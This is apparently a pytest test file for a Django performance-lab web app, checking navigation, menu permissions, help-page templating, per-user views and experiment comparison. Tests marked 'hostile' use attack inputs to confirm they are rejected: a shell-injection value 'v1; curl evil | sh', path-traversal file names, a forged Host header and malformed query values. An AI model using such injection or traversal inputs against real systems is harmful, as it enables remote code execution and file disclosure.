# SPDX-License-Identifier: GPL-2.0-or-later
"""Everything is two clicks from the front page at most; help is filled with the reader's own host."""

from __future__ import annotations

import html
import json
import re
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path

import pytest
from django.test import Client
from django.utils import timezone

from lab.models import Experiment, Hook, Standing, User
from lab.models.states import ExperimentState
from lab.submission.choices import NewestBase, newest_base
from lab.tests.factories import make_case, make_comparison, make_experiment, make_run, make_variant
from web.tests.conftest import Page
from web.tests.routes import routes

ROOT = Path(__file__).resolve().parents[2]
# Pages that a link cannot be in a menu for: files, fragments, other doors.
NOT_PAGES = {
    "health", "ready", "metrics", "lab_live", "login", "front",
}  # fmt: skip
HREF = re.compile(r'href="([^"#?]*)')


def parameterless() -> Iterator[str]:
    for route in routes():
        address = "/" + route.pattern.removeprefix("^").removesuffix("$").removesuffix("/?")
        inner = route.name.startswith(("api-", "unnamed")) or route.name in NOT_PAGES
        if not inner and not re.search(r"[<(*]", address):
            yield address


def links_of(client: Client, address: str) -> set[str]:
    answer = client.get(address)
    if answer.status_code != 200 or not answer["Content-Type"].startswith("text/html"):
        return set()
    return set(HREF.findall(answer.content.decode()))


def test_every_page_is_at_most_two_clicks_from_the_front_page(operator: Client) -> None:
    first = links_of(operator, "/")
    second = first.union(*(links_of(operator, address) for address in first if address.startswith("/")))
    pages = {address for address in parameterless() if operator.get(address).status_code == 200}
    assert pages - second - {"/"} == {"/account/password"}, "that one is for accounts with a password"


@pytest.mark.parametrize("who", ["client", "viewer", "submitter", "operator"])
def test_the_menu_shows_what_there_is_and_nothing_that_would_be_refused(
    db: None, request: pytest.FixtureRequest, who: str
) -> None:
    client = request.getfixturevalue(who)
    header = client.get("/").content.decode().partition("</header>")[0]
    labels = re.findall(r'data-key="\w">([A-Z]\w+)</a>', header.partition("</nav>")[0])
    lab = ["Lab"] if who in {"client", "operator"} else []
    assert labels == ["Experiments", "Trends", "Regressions", "Standing", *lab, "Help"]
    assert 403 not in {client.get(link).status_code for link in HREF.findall(header) if link.startswith("/")}


def test_help_is_filled_with_the_readers_own_host_and_a_tree_of_this_lab(
    page: Page, compared: Experiment, client: Client, settings: object
) -> None:
    text = page("/help/")
    for title in ("GitLab CI", "GitHub Actions", "Shell with curl", "labctl"):
        assert title in text
    assert text.count("http://testserver") >= 6
    assert html.unescape(text).count(f'"tree": "{compared.tree.name}"') == 3
    assert "KPERFLAB_SERVER: http://testserver" in text
    assert "KPERFLAB_SERVER: &quot;http://testserver&quot;" in text
    assert client.get("/help/ci/kperflab.sh").content == (ROOT / "docs/ci/kperflab.sh").read_bytes()


@pytest.mark.hostile
def test_a_tree_or_revision_that_a_shell_would_run_is_not_put_into_an_example(compared: Experiment) -> None:
    Experiment.objects.update(base_name="v1; curl evil | sh")
    assert newest_base() == NewestBase()


@pytest.mark.hostile
@pytest.mark.parametrize(
    "name", ["README.md", "github.yml", "..", "../api.md", "%2e%2e%2fapi.md", "kperflab.sh%00"]
)
def test_no_other_file_is_a_pipelines_file(client: Client, db: None, name: str) -> None:
    assert client.get(f"/help/ci/{name}").status_code in {400, 404}


@pytest.mark.hostile
def test_a_forged_host_does_not_get_into_a_pipeline(client: Client, db: None) -> None:
    answer = client.get("/help/", HTTP_HOST="evil.example")
    assert answer.status_code == 400
    assert b"evil.example/help" not in answer.content


def test_the_api_page_lists_every_call_of_the_schema(page: Page, client: Client) -> None:
    text = page("/help/api/")
    schema = json.loads(client.get("/api/v1/schema/").content)
    calls = {call["operationId"] for methods in schema["paths"].values() for call in methods.values()}
    assert {call for call in calls if f'id="{call}"' not in text} == set()
    assert client.get("/api/v1/docs/").headers["Location"] == "/help/api/"


def test_one_sees_ones_own_work_and_nobody_elses(
    page: Page, submitter: Client, alice: User, bob: User
) -> None:
    ended = {"state": ExperimentState.DONE, "finished_at": timezone.now() - timedelta(hours=1)}
    make_experiment(name="mine runs", state=ExperimentState.RUNNING, submitter=alice)
    mine = make_experiment(name="mine ended", submitter=alice, **ended)
    make_experiment(name="bobs ended", submitter=bob, **ended)
    Standing.objects.create(name="my-nightly", owner=alice, tree=mine.tree, spec={})
    Hook.objects.create(name="my hook", owner=alice, kind="webhook", url="https://ci.example/x", events=[])
    text = page("/mine/", submitter)
    for own in ("mine runs", "mine ended", "my-nightly", "my hook"):
        assert own in text
    assert "bobs ended" not in text
    assert submitter.post("/mine/seen").status_code == 302
    assert (
        "mine ended" not in page("/mine/", submitter).partition('id="standing"')[0].partition("finished")[2]
    )


def test_work_that_ones_page_has_no_room_for_is_counted(
    page: Page, submitter: Client, alice: User, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("lab.operations.front_page.SHOWN", 1)
    for number in range(3):
        ended = {"state": ExperimentState.DONE, "finished_at": timezone.now() - timedelta(hours=1)}
        make_experiment(name=f"ended {number}", submitter=alice, **ended)
        make_experiment(name=f"runs {number}", state=ExperimentState.RUNNING, submitter=alice)
    assert page("/mine/", submitter).count(">2 more. ") == 2
    submitter.post("/mine/seen")
    assert page("/mine/", submitter).count(">2 more. ") == 1


def pair(**second: object) -> tuple[Experiment, Experiment]:
    """Two experiments of one case and patch; second: what differs in the other one."""
    machine = second.pop("machine", "EPYC")
    made = []
    for fields, cpu in (({}, "EPYC"), (second, machine)):
        experiment = make_experiment(state="done", **fields)
        case, base = make_case(experiment), make_variant(experiment)
        make_run(base, case, state="done", environment={"host": {"host_cpu": cpu}})
        make_comparison(case, make_variant(experiment, "p"), base_median=100.0, ratio=1.1)
        made.append(experiment)
    return made[0], made[1]


def test_two_experiments_stand_side_by_side_with_both_bases(page: Page, db: None) -> None:
    first, second = pair()
    text = page(f"/compare/?first={first.pk}&second=%23{second.pk}")
    assert "cannot be compared" not in text
    assert text.count("+10") >= 2


@pytest.mark.parametrize(
    ("second", "said"),
    [
        ({"clock": "instructions"}, "They count different clocks: wall and instructions."),
        ({"machine": "Xeon"}, "They ran on different machine models: EPYC and Xeon."),
    ],
)
def test_two_experiments_that_cannot_be_compared_say_why_and_show_no_number(
    page: Page, db: None, second: dict[str, object], said: str
) -> None:
    first, other = pair(**second)
    text = page(f"/compare/?first={first.pk}&second={other.pk}")
    assert said in text
    assert 'class="change' not in text


@pytest.mark.hostile
@pytest.mark.parametrize(
    ("query", "faults"),
    [
        ("first=x&second=", 2),
        ("first=1;&second=2", 1),
        ("first=%00&second=%F0%9F%98%80", 2),
        ("first=999&second=998", 1),
        ("first=99999999999999999999&second=1", 1),
        ("first=²&second=٣", 2),
    ],
)
def test_numbers_of_experiments_that_are_none_are_told_beside_their_fields(
    client: Client, db: None, query: str, faults: int
) -> None:
    answer = client.get(f"/compare/?{query}")
    assert answer.status_code == 422
    assert answer.content.decode().count('class="error"') == faults
